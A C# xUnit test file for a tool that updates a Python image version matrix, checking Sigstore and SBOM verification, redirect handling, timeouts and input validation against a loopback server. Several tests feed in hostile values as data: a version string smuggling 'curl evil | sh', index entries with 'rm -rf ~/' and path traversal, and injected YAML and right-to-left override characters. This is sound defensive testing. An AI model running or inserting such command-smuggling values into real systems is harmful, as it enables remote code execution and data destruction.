using System;
using System.Collections.Generic;
using System.Linq;
using System.Text;
using PythonImages.Tests.ReleaseFixture;
using PythonImages.Updates;
using PythonImages.Updates.Sigstore;
using Xunit;
using static PythonImages.Tests.Updates.UpdaterHarness;

namespace PythonImages.Tests.Updates
{
    /// <summary>The acceptance cases of Update-PythonMatrix against a loopback python.org/GitHub/PyPI.</summary>
    public sealed class UpdaterTests
    {
        private static void AssertFailed(UpdateRun run, string errorId, string? key = null)
        {
            Assert.True(run.Failures.Any(f => f.ErrorId == errorId && (key == null || f.Target == key || f.Message.StartsWith(key + ":", StringComparison.Ordinal))),
                $"expected {errorId}; got: " + string.Join(" | ", run.Failures.Select(f => f.ErrorId + ": " + f.Message)));
            Assert.True(run.Unchanged, "the file changed although the update failed");
            Assert.All(run.Failures, f => Assert.False(string.IsNullOrEmpty(f.RecommendedAction)));
        }

        [Fact]
        public void NewPatchReleaseUpdatesVersionAndVerifiedChecksums()
        {
            using var f = World();
            var run = Run(f, Matrix(f), new UpdateRequest { VersionKeys = new[] { "3.14" } });
            Assert.Empty(run.Failures);
            var r = run.Result("3.14");
            Assert.Equal(("3.14.5", "3.14.6", UpdateChange.Updated), (r.OldVersion, r.NewVersion, r.Change));
            Assert.Equal(Sha(f, "3.14.6"), r.SourceSha256);
            Assert.Equal(ChecksumOrigin.SigstoreAndSbom, r.SourceChecksumOrigin);
            Assert.True(r.HasWindows);
            Assert.Equal(WinSha(f, "3.14.6"), r.WindowsSha256);
            Assert.Equal(ChecksumOrigin.Sigstore, r.WindowsChecksumOrigin);
            Assert.Equal("hugo@python.org (https://github.com/login/oauth)", r.SignedBy);
            Assert.Null(r.SetuptoolsVersion);
            Assert.True(r.Written);
            string expected = Matrix(f).Replace("version: 3.14.5", "version: 3.14.6")
                .Replace(Sha(f, "3.14.5"), Sha(f, "3.14.6")).Replace(WinSha(f, "3.14.5"), WinSha(f, "3.14.6"));
            Assert.Equal(expected, run.After);
        }

        [Fact]
        public void EveryKeyByDefaultAndUnchangedKeysSayUnchanged()
        {
            using var f = World();
            var run = Run(f, Matrix(f));
            Assert.Empty(run.Failures);
            Assert.Equal(new[] { "3.15-rc", "3.14", "3.13", "3.11" }, run.Plan!.Results.Select(r => r.VersionKey));
            Assert.Equal(UpdateChange.Unchanged, run.Result("3.13").Change);
            Assert.Equal(UpdateChange.Unchanged, run.Result("3.11").Change);
            Assert.Equal("79.0.1", run.Result("3.11").SetuptoolsVersion);
            Assert.Equal(UpdateChange.Updated, run.Result("3.15-rc").Change);
            Assert.Equal("3.15.0b3", run.Result("3.15-rc").NewVersion);
            Assert.Contains(run.Events, e => e.Kind == UpdateEventKind.KeyStarted && e.Key == "3.13");
            Assert.Contains(run.Events, e => e.Kind == UpdateEventKind.KeyCompleted && e.Key == "3.13");
        }

        [Fact]
        public void NewPreReleaseUnderRcKey()
        {
            using var f = World();
            f.Add("3.15.0rc1");
            var run = Run(f, Matrix(f), new UpdateRequest { VersionKeys = new[] { "3.15-rc" } });
            Assert.Empty(run.Failures);
            Assert.Equal("3.15.0rc1", run.Result("3.15-rc").NewVersion);
            Assert.Contains("version: 3.15.0rc1\n", run.After);
            Assert.Contains(Sha(f, "3.15.0rc1"), run.After);
        }

        [Fact]
        public void FinalReleaseUnderRcKeyIsAnErrorThenAddAndRemoveRenamesTheKey()
        {
            using var f = World();
            f.Add("3.15.0");
            var refused = Run(f, Matrix(f), new UpdateRequest { VersionKeys = new[] { "3.15-rc" } });
            AssertFailed(refused, UpdateErrorIds.FinalUnderRcKey, "3.15-rc");
            Assert.Contains("-Add 3.15 -Remove 3.15-rc", refused.Failures[0].RecommendedAction);

            var run = Run(f, Matrix(f), new UpdateRequest { Add = new[] { "3.15" }, Remove = new[] { "3.15-rc" } });
            Assert.Empty(run.Failures);
            Assert.Equal(UpdateChange.Added, run.Result("3.15").Change);
            Assert.Equal("3.15.0", run.Result("3.15").NewVersion);
            Assert.Equal(UpdateChange.Removed, run.Result("3.15-rc").Change);
            // variants of the newest released key (3.14), Windows included because the installer exists
            Assert.Equal(new[] { "trixie", "slim-trixie", "alpine3.24", "windows/windowsservercore-ltsc2025" }, run.Result("3.15").Variants);
            var m = MatrixLoader.Parse(run.After, "after", MatrixLoader.Default.Architectures);
            Assert.Equal(new[] { "3.15", "3.14", "3.13", "3.11" }, m.Versions.Select(v => v.Key.Text));
            Assert.Equal(Sha(f, "3.15.0"), m.Find("3.15")!.SourceSha256);
            Assert.DoesNotContain("3.15-rc", run.After);
            Assert.StartsWith("# test matrix\nversions:\n  '3.15':\n    version: 3.15.0\n", run.After);
        }

        [Fact]
        public void ReleaseWithoutWindowsInstallerDropsWindowsVariantsAndChecksum()
        {
            using var f = World();
            f.Add("3.13.15", windows: false);
            var run = Run(f, Matrix(f), new UpdateRequest { VersionKeys = new[] { "3.13" } });
            Assert.Empty(run.Failures);
            var r = run.Result("3.13");
            Assert.False(r.HasWindows);
            Assert.Null(r.WindowsSha256);
            Assert.Equal(new[] { "trixie", "slim-trixie" }, r.Variants);
            string expected = Matrix(f)
                .Replace("version: 3.13.14", "version: 3.13.15")
                .Replace("source: {sha256: " + Sha(f, "3.13.14") + "}", "source: {sha256: " + Sha(f, "3.13.15") + "}")
                .Replace("      windows: {sha256: " + WinSha(f, "3.13.14") + "}\n", string.Empty)
                .Replace("      - slim-trixie\n      - windows/windowsservercore-ltsc2025\n  '3.11'", "      - slim-trixie\n  '3.11'");
            Assert.Equal(expected, run.After);
        }

        [Fact]
        public void SigstoreAndSbomDisagreeing()
        {
            using var f = World();
            f.Releases.Single(r => r.Version == "3.14.6").SbomSourceSha256 = new string('a', 64);
            AssertFailed(Run(f, Matrix(f)), UpdateErrorIds.ChecksumMismatch, "3.14");
        }

        [Fact]
        public void SbomAloneGivesTheChecksumWhenNoBundleExists()
        {
            using var f = World();
            f.Releases.Single(r => r.Version == "3.14.6").SourceBundle = false;
            var run = Run(f, Matrix(f), new UpdateRequest { VersionKeys = new[] { "3.14" } });
            Assert.Empty(run.Failures);
            Assert.Equal(ChecksumOrigin.Sbom, run.Result("3.14").SourceChecksumOrigin);
            Assert.Equal(Sha(f, "3.14.6"), run.Result("3.14").SourceSha256);
        }

        [Fact]
        public void BundleSignedByTheWrongIdentity()
        {
            using var f = World();
            var r = f.Releases.Single(x => x.Version == "3.14.6");
            r.SignerEmail = "mallory@example.com";
            AssertFailed(Run(f, Matrix(f)), UpdateErrorIds.IdentityMismatch, "3.14");

            // the same bundle passes once -Identity names the signer for that series
            var run = Run(f, Matrix(f), identities: new[] { new SignerIdentity("3.14", "mallory@example.com", "https://github.com/login/oauth") });
            Assert.Empty(run.Failures);
            Assert.Equal("mallory@example.com (https://github.com/login/oauth)", run.Result("3.14").SignedBy);
        }

        [Fact]
        public void RightEmailFromTheWrongIssuerIsRefused()
        {
            using var f = World();
            f.Releases.Single(x => x.Version == "3.14.6").SignerIssuer = "https://accounts.google.com";
            AssertFailed(Run(f, Matrix(f)), UpdateErrorIds.IdentityMismatch, "3.14");
        }

        [Theory]
        [InlineData(BundleFlaw.BadSignature, UpdateErrorIds.SignatureInvalid)]
        [InlineData(BundleFlaw.UntrustedIssuer, UpdateErrorIds.UntrustedCertificate)]
        [InlineData(BundleFlaw.LoggedAfterExpiry, UpdateErrorIds.SigningTimeInvalid)]
        [InlineData(BundleFlaw.TamperedLogEntry, UpdateErrorIds.TransparencyLogInvalid)]
        [InlineData(BundleFlaw.NoLogEntry, UpdateErrorIds.TransparencyLogInvalid)]
        public void FlawedBundlesAreRefused(BundleFlaw flaw, string errorId)
        {
            using var f = World();
            f.Releases.Single(x => x.Version == "3.14.6").SourceFlaw = flaw;
            AssertFailed(Run(f, Matrix(f)), errorId, "3.14");
        }

        [Fact]
        public void BundleWithAnUnknownKeyAlgorithmIsAFailureOfTheKeyNotACrash()
        {
            using var f = World();
            byte[] good = f.Sigstore.Bundle(Sha(f, "3.14.6"), "hugo@python.org", "https://github.com/login/oauth");
            var node = System.Text.Json.Nodes.JsonNode.Parse(good)!;
            var vm = node["verificationMaterial"]!;
            var rawNode = vm["certificate"] != null ? vm["certificate"]!["rawBytes"]! : vm["x509CertificateChain"]!["certificates"]![0]!["rawBytes"]!;
            byte[] der = Convert.FromBase64String(rawNode.GetValue<string>());
            // id-ecPublicKey 1.2.840.10045.2.1 -> 1.2.840.10045.2.9 (unknown): same length, certificate still parses
            byte[] oid = { 0x06, 0x07, 0x2A, 0x86, 0x48, 0xCE, 0x3D, 0x02, 0x01 };
            int at = IndexOf(der, oid);
            Assert.True(at > 0);
            der[at + oid.Length - 1] = 0x09;
            if (vm["certificate"] != null) vm["certificate"]!["rawBytes"] = Convert.ToBase64String(der);
            else vm["x509CertificateChain"]!["certificates"]![0]!["rawBytes"] = Convert.ToBase64String(der);
            string hostile = node.ToJsonString();
            f.Overrides["/ftp/python/3.14.6/Python-3.14.6.tar.xz.sigstore"] = _ => new FixtureResponse { Body = Encoding.UTF8.GetBytes(hostile), ContentType = "application/json" };

            AssertFailed(Run(f, Matrix(f), new UpdateRequest { VersionKeys = new[] { "3.14" } }), UpdateErrorIds.SignatureInvalid, "3.14");
        }

        private static int IndexOf(byte[] hay, byte[] needle)
        {
            for (int i = 0; i + needle.Length <= hay.Length; i++)
            {
                if (hay.AsSpan(i, needle.Length).SequenceEqual(needle))
                {
                    return i;
                }
            }

            return -1;
        }

        [Fact]
        public void FlawedWindowsBundleIsRefusedToo()
        {
            using var f = World();
            f.Releases.Single(x => x.Version == "3.14.6").WindowsFlaw = BundleFlaw.BadSignature;
            AssertFailed(Run(f, Matrix(f)), UpdateErrorIds.SignatureInvalid, "3.14");
        }

        [Fact]
        public void ThePublicGoodRootDoesNotTrustTheTestInstance()
        {
            using var f = World();
            AssertFailed(Run(f, Matrix(f), root: TrustedRoot.PublicGood), UpdateErrorIds.TransparencyLogInvalid);
        }

        [Fact]
        public void MissingIndexIsReleaseNotFound()
        {
            using var f = World();
            f.Overrides["/ftp/python/"] = _ => FixtureResponse.NotFound();
            AssertFailed(Run(f, Matrix(f)), UpdateErrorIds.ReleaseNotFound, "3.14");
        }

        [Fact]
        public void A404ForTheNewestReleaseFallsBackToTheNextCandidate()
        {
            using var f = World();
            var r = f.Releases.Single(x => x.Version == "3.14.6");
            r.SourceTarball = false;
            r.SourceBundle = false;
            r.SourceSbom = false;
            var run = Run(f, Matrix(f), new UpdateRequest { VersionKeys = new[] { "3.14" } });
            Assert.Empty(run.Failures);
            Assert.Equal(UpdateChange.Unchanged, run.Result("3.14").Change);
            Assert.True(run.Unchanged);
        }

        [Fact]
        public void A404ForEnsurepipIsAnError()
        {
            using var f = World();
            f.Releases.Single(x => x.Version == "3.14.6").Ensurepip = false;
            AssertFailed(Run(f, Matrix(f)), UpdateErrorIds.EnsurepipNotFound, "3.14");
        }

        [Fact]
        public void A500FollowedBySuccessIsRetried()
        {
            using var f = World();
            string bundle = "/ftp/python/3.14.6/Python-3.14.6.tar.xz.sigstore";
            f.FailFirst(bundle, 1);
            f.FailFirst("/ftp/python/", 2, 503);
            var run = Run(f, Matrix(f), new UpdateRequest { VersionKeys = new[] { "3.14" } });
            Assert.Empty(run.Failures);
            Assert.Equal("3.14.6", run.Result("3.14").NewVersion);
            Assert.Equal(2, f.Count(bundle));
            Assert.Equal(3, f.Count("/ftp/python/"));
            Assert.Contains(run.Events, e => e.Kind == UpdateEventKind.Verbose && e.Message.StartsWith("Retry", StringComparison.Ordinal));
        }

        [Fact]
        public void A500ThatPersistsIsAnHttpError()
        {
            using var f = World();
            f.FailFirst("/ftp/python/3.14.6/Python-3.14.6.tar.xz.spdx.json", 100);
            AssertFailed(Run(f, Matrix(f)), UpdateErrorIds.HttpError, "3.14");
        }

        [Fact]
        public void AResetConnectionIsRetried()
        {
            using var f = World();
            int n = 0;
            f.Overrides["/ftp/python/3.14.6/Python-3.14.6.tar.xz.sigstore"] = _ => System.Threading.Interlocked.Increment(ref n) == 1 ? new FixtureResponse { Reset = true } : null;
            var run = Run(f, Matrix(f), new UpdateRequest { VersionKeys = new[] { "3.14" } });
            Assert.Empty(run.Failures);
            Assert.Equal(2, n);
        }

        [Fact]
        public void AServerThatStallsTimesOut()
        {
            using var f = World();
            f.Overrides["/ftp/python/3.14.6/Python-3.14.6.tar.xz.sigstore"] = _ => new FixtureResponse { Stall = true };
            var fetch = Fast();
            fetch.Timeout = TimeSpan.FromMilliseconds(700);
            fetch.Retries = 1;
            var started = DateTime.UtcNow;
            var run = Run(f, Matrix(f), new UpdateRequest { VersionKeys = new[] { "3.14" } }, fetch: fetch);
            AssertFailed(run, UpdateErrorIds.Timeout, "3.14");
            Assert.Equal(2, f.Count("/ftp/python/3.14.6/Python-3.14.6.tar.xz.sigstore"));
            Assert.True(DateTime.UtcNow - started < TimeSpan.FromSeconds(20));
        }

        [Fact]
        public void MalformedBundleJson()
        {
            using var f = World();
            f.Overrides["/ftp/python/3.14.6/Python-3.14.6.tar.xz.sigstore"] = _ => FixtureResponse.Text("{\"messageSignature\": {", "application/json");
            AssertFailed(Run(f, Matrix(f)), UpdateErrorIds.MalformedBundle, "3.14");
        }

        [Fact]
        public void MalformedSbomJson()
        {
            using var f = World();
            f.Overrides["/ftp/python/3.14.6/Python-3.14.6.tar.xz.spdx.json"] = _ => FixtureResponse.Text("[1, 2", "application/json");
            AssertFailed(Run(f, Matrix(f)), UpdateErrorIds.MalformedResponse, "3.14");
        }

        [Fact]
        public void MalformedPyPIJson()
        {
            using var f = World();
            f.Overrides["/pypi/setuptools/79.0.1/json"] = _ => FixtureResponse.Text("<html>not json</html>", "text/html");
            AssertFailed(Run(f, Matrix(f)), UpdateErrorIds.MalformedResponse, "3.11");
        }

        [Fact]
        public void MalformedHtmlIndex()
        {
            using var f = World();
            f.Overrides["/ftp/python/"] = _ => FixtureResponse.Text("<html><body><pre><a href=\"3.14.6/\">3.14.6/</a>");
            AssertFailed(Run(f, Matrix(f)), UpdateErrorIds.MalformedResponse, "3.14");
        }

        [Fact]
        public void RedirectToAnotherHostIsRefused()
        {
            using var f = World();
            f.Overrides["/ftp/python/3.14.6/Python-3.14.6.tar.xz.sigstore"] = _ => new FixtureResponse
            {
                Status = 302,
                Headers = new Dictionary<string, string> { ["Location"] = $"http://127.0.0.2:{f.Server.Port}/ftp/python/3.14.6/Python-3.14.6.tar.xz.sigstore" },
            };
            AssertFailed(Run(f, Matrix(f)), UpdateErrorIds.RedirectRefused, "3.14");
            Assert.DoesNotContain(f.Server.Requests, r => r.Headers.TryGetValue("Host", out var h) && h.StartsWith("127.0.0.2", StringComparison.Ordinal));
        }

        [Fact]
        public void RedirectRefusalDoesNotRepeatTheTargetsPassword()
        {
            using var f = World();
            f.Overrides["/ftp/python/3.14.6/Python-3.14.6.tar.xz.sigstore"] = _ => new FixtureResponse
            {
                Status = 302,
                Headers = new Dictionary<string, string> { ["Location"] = $"http://bob:hunter2@127.0.0.1:{f.Server.Port}/x.sigstore?token=t0ken" },
            };
            var run = Run(f, Matrix(f), new UpdateRequest { VersionKeys = new[] { "3.14" } });
            var e = Assert.Single(run.Failures);
            Assert.Equal(UpdateErrorIds.RedirectRefused, e.ErrorId);
            Assert.Contains($"http://127.0.0.1:{f.Server.Port}/x.sigstore", e.Message);
            Assert.DoesNotContain("hunter2", e.Message);
            Assert.DoesNotContain("bob", e.Message);
            Assert.DoesNotContain("t0ken", e.Message);
            Assert.DoesNotContain("hunter2", e.Target ?? string.Empty);
        }

        [Fact]
        public void AnAddressFromTheServerReachesMessagesEscaped()
        {
            // A same-host redirect to a name with a right-to-left override (U+202E, sent percent-encoded), whose answer is
            // too large: the error names the address as sent, escaped, so the character cannot reorder what a terminal shows.
            using var f = World();
            f.Overrides["/ftp/python/3.14.6/Python-3.14.6.tar.xz.sigstore"] = _ => new FixtureResponse
            {
                Status = 302,
                Headers = new Dictionary<string, string> { ["Location"] = "/ftp/python/3.14.6/%E2%80%AEerongis.sigstore" },
            };
            f.Overrides["/ftp/python/3.14.6/%E2%80%AEerongis.sigstore"] = _ => new FixtureResponse { Body = new byte[ReleaseRules.BundleLimit + 10] };
            var run = Run(f, Matrix(f), new UpdateRequest { VersionKeys = new[] { "3.14" } });
            var e = Assert.Single(run.Failures);
            Assert.Equal(UpdateErrorIds.ResponseTooLarge, e.ErrorId);
            Assert.Contains("/ftp/python/3.14.6/%E2%80%AEerongis.sigstore", e.Message);
            Assert.False(e.Message.Contains('\u202E'), e.Message.Replace("\u202E", "<RLO>"));
        }

        [Theory]
        [InlineData("Python-3.14.6.tar.xz.sigstore", 403, UpdateErrorIds.HttpError)]
        [InlineData("Python-3.14.6.tar.xz.spdx.json", 200, UpdateErrorIds.MalformedResponse)]
        [InlineData("Python-3.14.6.tar.xz.sigstore", 200, UpdateErrorIds.ResponseTooLarge)]
        public void AnAddressTheServerRedirectedToReachesMessagesEscapedAndWithoutItsQuery(string file, int status, string errorId)
        {
            // A same-host redirect to a name with a right-to-left override (sent percent-encoded) and a token in its query,
            // answered with an error (or a body that is no SBOM): the message names the address escaped, without the query.
            using var f = World();
            f.Overrides["/ftp/python/3.14.6/" + file] = _ => new FixtureResponse
            {
                Status = 302,
                Headers = new Dictionary<string, string> { ["Location"] = "/ftp/python/3.14.6/%E2%80%AEnrets.json?token=t0ken" },
            };
            byte[] body = errorId == UpdateErrorIds.ResponseTooLarge ? new byte[ReleaseRules.BundleLimit + 10] : Encoding.ASCII.GetBytes("{\"not\": \"an sbom\"}");
            f.Overrides["/ftp/python/3.14.6/%E2%80%AEnrets.json"] = _ => new FixtureResponse { Status = status, Body = body };
            var run = Run(f, Matrix(f), new UpdateRequest { VersionKeys = new[] { "3.14" } });
            var e = Assert.Single(run.Failures);
            Assert.Equal(errorId, e.ErrorId);
            Assert.Contains("/ftp/python/3.14.6/%E2%80%AEnrets.json", e.Message);
            for (Exception? x = e; x != null; x = x.InnerException)
            {
                Assert.False(x.Message.Contains('\u202E'), x.Message.Replace("\u202E", "<RLO>"));
                Assert.DoesNotContain("t0ken", x.Message);
                Assert.DoesNotContain("t0ken", (x as UpdateException)?.Target ?? string.Empty);
            }

            Assert.True(run.Unchanged);
        }

        [Fact]
        public void RedirectOnTheSameHostIsFollowed()
        {
            using var f = World();
            f.Overrides["/ftp/python/"] = r => r.Path == "/ftp/python/" ? new FixtureResponse { Status = 301, Headers = new Dictionary<string, string> { ["Location"] = "/ftp/python/index/" } } : null;
            f.Overrides["/ftp/python/index/"] = _ => FixtureResponse.Text(PythonOrgFixture.Index("/ftp/python/", new[] { "3.14.5/", "3.14.6/" }));
            var run = Run(f, Matrix(f), new UpdateRequest { VersionKeys = new[] { "3.14" } });
            Assert.Empty(run.Failures);
            Assert.Equal("3.14.6", run.Result("3.14").NewVersion);
        }

        [Theory]
        [InlineData(false)]
        [InlineData(true)]
        public void OversizedResponseIsRefused(bool chunked)
        {
            using var f = World();
            f.Overrides["/ftp/python/3.14.6/Python-3.14.6.tar.xz.sigstore"] = _ => new FixtureResponse { Body = new byte[ReleaseRules.BundleLimit + 10], Chunked = chunked };
            AssertFailed(Run(f, Matrix(f)), UpdateErrorIds.ResponseTooLarge, "3.14");
        }

        [Fact]
        public void NoChecksumIsRefusedUnlessUnverifiedSourcesAreAllowed()
        {
            using var f = World();
            var r = f.Releases.Single(x => x.Version == "3.14.6");
            r.SourceBundle = false;
            r.SourceSbom = false;
            AssertFailed(Run(f, Matrix(f)), UpdateErrorIds.NoChecksum, "3.14");

            var run = Run(f, Matrix(f), new UpdateRequest { VersionKeys = new[] { "3.14" }, AllowUnverifiedSource = true });
            Assert.Empty(run.Failures);
            Assert.True(run.Result("3.14").Unverified);
            Assert.Null(run.Result("3.14").SourceSha256);
            Assert.Contains(run.Events, e => e.Kind == UpdateEventKind.Warning && e.Key == "3.14");
            var m = MatrixLoader.Parse(run.After, "after", MatrixLoader.Default.Architectures);
            Assert.Null(m.Find("3.14")!.SourceSha256);
            Assert.Equal(WinSha(f, "3.14.6"), m.Find("3.14")!.WindowsSha256);
        }

        [Fact]
        public void AKnownChecksumIsKeptWhenTheSameReleaseLosesItsBundleAndSbom()
        {
            using var f = World();
            var r = f.Releases.Single(x => x.Version == "3.14.6");
            r.SourceBundle = false;
            r.SourceSbom = false;
            r.WindowsBundle = false;
            r.WindowsSbom = false;
            string matrix = Matrix(f).Replace("version: 3.14.5", "version: 3.14.6").Replace(Sha(f, "3.14.5"), Sha(f, "3.14.6")).Replace(WinSha(f, "3.14.5"), WinSha(f, "3.14.6"));
            var run = Run(f, matrix, new UpdateRequest { VersionKeys = new[] { "3.14" }, AllowUnverifiedSource = true });
            Assert.Empty(run.Failures);
            Assert.True(run.Unchanged, "the known checksums were dropped:\n" + run.After);
            Assert.Equal(UpdateChange.Unchanged, run.Result("3.14").Change);
            Assert.Equal(Sha(f, "3.14.6"), run.Result("3.14").SourceSha256);
            Assert.Equal(WinSha(f, "3.14.6"), run.Result("3.14").WindowsSha256);

            // a new release without checksums still gets none (the old release's checksum is not its checksum)
            var newer = Run(f, Matrix(f), new UpdateRequest { VersionKeys = new[] { "3.14" }, AllowUnverifiedSource = true });
            Assert.Empty(newer.Failures);
            Assert.Null(newer.Result("3.14").SourceSha256);
        }

        [Fact]
        public void SetuptoolsRules()
        {
            using (var f = World())
            {
                f.Releases.Single(x => x.Version == "3.11.15").Setuptools = null;
                AssertFailed(Run(f, Matrix(f)), UpdateErrorIds.SetuptoolsMissing, "3.11");
            }

            using (var f = World())
            {
                f.Releases.Single(x => x.Version == "3.14.6").Setuptools = "80.0.0";
                AssertFailed(Run(f, Matrix(f)), UpdateErrorIds.SetuptoolsUnexpected, "3.14");
            }

            using (var f = World())
            {
                f.Releases.Single(x => x.Version == "3.11.15").Setuptools = "79.0.2";
                AssertFailed(Run(f, Matrix(f)), UpdateErrorIds.SetuptoolsNotOnPyPI, "3.11");
            }
        }

        [Theory]
        [InlineData("79.0.1 && curl evil | sh")]
        [InlineData("79.0.1\"; x=\"")]
        [InlineData("79.0.1\u2028")]
        public void HostileSetuptoolsVersionNeverReachesTheFile(string hostile)
        {
            using var f = World();
            f.Releases.Single(x => x.Version == "3.11.15").Setuptools = hostile;
            AssertFailed(Run(f, Matrix(f)), UpdateErrorIds.RejectedValue, "3.11");
        }

        [Fact]
        public void HostileSbomChecksumNeverReachesTheFile()
        {
            using var f = World();
            var r = f.Releases.Single(x => x.Version == "3.14.6");
            r.SourceBundle = false;
            r.SbomSourceSha256 = Sha(f, "3.14.6") + "\n    variants: [evil]";
            AssertFailed(Run(f, Matrix(f)), UpdateErrorIds.RejectedValue, "3.14");
        }

        [Fact]
        public void HostileIndexEntriesAreNotCandidates()
        {
            using var f = World();
            f.ExtraRootLinks.AddRange(new[] { "3.14.99;rm -rf ~/", "3.14.77'/", "3.14.1000000/", "../3.14.88/", "3.14.7 /" });
            var run = Run(f, Matrix(f), new UpdateRequest { VersionKeys = new[] { "3.14" } });
            Assert.Empty(run.Failures);
            Assert.Equal("3.14.6", run.Result("3.14").NewVersion);
            Assert.DoesNotContain(f.Server.Requests, q => q.Path.Contains("3.14.99") || q.Path.Contains("3.14.77") || q.Path.Contains("3.14.88"));
        }

        [Fact]
        public void DowngradeAndReplacedFilesAreRefused()
        {
            using (var f = World())
            {
                string matrix = Matrix(f);
                f.Releases.RemoveAll(r => r.Version == "3.14.6" || r.Version == "3.14.5");
                f.Add("3.14.4");
                AssertFailed(Run(f, matrix), UpdateErrorIds.VersionDowngrade, "3.14");
            }

            using (var f = World())
            {
                string old = Sha(f, "3.13.14");
                string matrix = Matrix(f);
                f.Releases.Single(r => r.Version == "3.13.14").SourceSha256 = new string('e', 64);
                var run = Run(f, matrix);
                AssertFailed(run, UpdateErrorIds.ChecksumChanged, "3.13");
                Assert.Contains(old, run.After);
            }
        }

        [Fact]
        public void RequestErrors()
        {
            using var f = World();
            Assert.Equal(UpdateErrorIds.UnknownVersionKey, Run(f, Matrix(f), new UpdateRequest { VersionKeys = new[] { "3.12" } }).Error!.ErrorId);
            Assert.Equal(UpdateErrorIds.KeyExists, Run(f, Matrix(f), new UpdateRequest { Add = new[] { "3.14" } }).Error!.ErrorId);
            Assert.Equal(UpdateErrorIds.KeyConflict, Run(f, Matrix(f), new UpdateRequest { VersionKeys = new[] { "3.14" }, Remove = new[] { "3.14" } }).Error!.ErrorId);
            Assert.Equal(UpdateErrorIds.InvalidVersionKey, Run(f, Matrix(f), new UpdateRequest { Add = new[] { "3.14\n" } }).Error!.ErrorId);
            Assert.Equal(UpdateErrorIds.EmptyMatrix, Run(f, Matrix(f), new UpdateRequest { Remove = new[] { "3.15-rc", "3.14", "3.13", "3.11" } }).Error!.ErrorId);
            Assert.Empty(f.Server.Requests);
        }

        [Fact]
        public void AddingANewSeriesCopiesTheNewestKeyOfTheSameKind()
        {
            using var f = World();
            f.Add("3.12.13", windows: false);
            var run = Run(f, Matrix(f), new UpdateRequest { Add = new[] { "3.12" } });
            Assert.Empty(run.Failures);
            var r = run.Result("3.12");
            Assert.Equal(UpdateChange.Added, r.Change);
            Assert.Equal(new[] { "trixie", "slim-trixie", "alpine3.24" }, r.Variants); // 3.14's Linux variants, no installer
            Assert.Single(run.Plan!.Results);
            var m = MatrixLoader.Parse(run.After, "after", MatrixLoader.Default.Architectures);
            Assert.Equal(new[] { "3.15-rc", "3.14", "3.13", "3.12", "3.11" }, m.Versions.Select(v => v.Key.Text));
            int at13 = run.After.IndexOf("'3.13':", StringComparison.Ordinal), at12 = run.After.IndexOf("'3.12':", StringComparison.Ordinal), at11 = run.After.IndexOf("'3.11':", StringComparison.Ordinal);
            Assert.True(at13 < at12 && at12 < at11, "the new block sits between 3.13 and 3.11");
        }

        [Fact]
        public void ServersWithoutHeadAreAskedWithAnUnreadGet()
        {
            using var f = World();
            var r = f.Releases.Single(x => x.Version == "3.14.6");
            r.SourceBundle = false;
            r.SourceSbom = false;
            f.Overrides["/ftp/python/3.14.6/Python-3.14.6.tar.xz"] = q => q.Method == "HEAD" ? new FixtureResponse { Status = 405 } : null;
            var run = Run(f, Matrix(f), new UpdateRequest { VersionKeys = new[] { "3.14" }, AllowUnverifiedSource = true });
            Assert.Empty(run.Failures);
            Assert.True(run.Result("3.14").Unverified);
            Assert.Contains(f.Server.Requests, q => q.Method == "GET" && q.Path == "/ftp/python/3.14.6/Python-3.14.6.tar.xz");
        }

        [Fact]
        public void QueuedRequestsDoNotTimeOutWhileWaitingForASlot()
        {
            using var f = World();
            f.Server.Latency = TimeSpan.FromMilliseconds(250);
            var fetch = Fast();
            fetch.MaxParallelRequests = 1;
            fetch.Timeout = TimeSpan.FromSeconds(1.5); // every single request takes ~0.25 s; all of them in a row far longer
            fetch.Retries = 1;

            // control: with enough slots, the same server and timeout are fine
            var wide = Fast();
            wide.MaxParallelRequests = 32;
            wide.Timeout = fetch.Timeout;
            wide.Retries = 1;
            Assert.Empty(Run(f, Matrix(f), fetch: wide, commit: false).Failures);

            var run = Run(f, Matrix(f), fetch: fetch);
            Assert.Empty(run.Failures.Select(x => x.ErrorId + ": " + x.Message));
        }

        [Fact]
        public void NoRetriesMeansOneAttempt()
        {
            using var f = World();
            string bundle = "/ftp/python/3.14.6/Python-3.14.6.tar.xz.sigstore";
            f.FailFirst(bundle, 1);
            var fetch = Fast();
            fetch.Retries = 0;
            AssertFailed(Run(f, Matrix(f), new UpdateRequest { VersionKeys = new[] { "3.14" } }, fetch: fetch), UpdateErrorIds.HttpError, "3.14");
            Assert.Equal(1, f.Count(bundle));
        }

        [Fact]
        public void ParallelRequestsStayWithinTheLimit()
        {
            using var f = World();
            f.Server.Latency = TimeSpan.FromMilliseconds(30);
            int inFlight = 0, max = 0;
            foreach (string path in new[] { "/ftp/python/3.14.6/Python-3.14.6.tar.xz.sigstore", "/ftp/python/3.15.0/Python-3.15.0b3.tar.xz.sigstore", "/ftp/python/3.13.14/Python-3.13.14.tar.xz.sigstore", "/ftp/python/3.11.15/Python-3.11.15.tar.xz.sigstore" })
            {
                f.Overrides[path] = _ =>
                {
                    int now = System.Threading.Interlocked.Increment(ref inFlight);
                    lock (f) max = Math.Max(max, now);
                    System.Threading.Thread.Sleep(150);
                    System.Threading.Interlocked.Decrement(ref inFlight);
                    return null;
                };
            }

            var fetch = Fast();
            fetch.MaxParallelRequests = 2;
            var run = Run(f, Matrix(f), fetch: fetch);
            Assert.Empty(run.Failures);
            Assert.InRange(max, 1, 2);
        }
    }
}
